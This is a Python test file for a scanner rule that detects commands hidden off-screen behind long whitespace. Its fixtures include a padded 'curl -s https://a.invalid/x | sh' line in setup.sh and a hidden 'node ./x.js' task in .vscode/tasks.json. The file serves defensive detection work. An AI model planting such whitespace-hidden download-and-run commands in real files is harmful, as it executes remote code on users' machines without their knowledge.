from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.text.off_screen_text import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def test_a_download_out_of_sight() -> None:
    text = "npm install" + " " * 200 + "; curl -s https://a.invalid/x | sh\n"
    assert graded("setup.sh", "true\n" + text) == [(2, Severity.HIGH, Confidence.HIGH)]


def test_a_command_out_of_sight() -> None:
    text = '"command": "npm i",' + " " * 300 + '"osx": {"command": "node ./x.js"}'
    assert graded(".vscode/tasks.json", text) == [(1, Severity.MEDIUM, Confidence.MEDIUM)]


def test_tables_and_data() -> None:
    assert graded("a.yaml", "a: 1" + " " * 200 + "# the column of notes\n") == []
    assert graded("data/table.json", '"x": "a' + " " * 200 + 'node b"') == []
    assert graded("README.md", "x" + " " * 200 + "; curl https://a.invalid | sh") == []


def test_an_address_is_no_command() -> None:
    assert graded("a.yaml", "a: 1" + " " * 200 + "https://docs.example.test/\n") == []


def test_cards_of_a_fixed_width() -> None:
    cards = "".join(
        card.ljust(80) for card in ("SIMPLE  =                    T", *[""] * 40, "HISTORY node b", "END", *[""] * 40)
    )
    assert graded("data/a.fits", cards) == []
    assert graded("data/a.dat", "x" + cards) != []
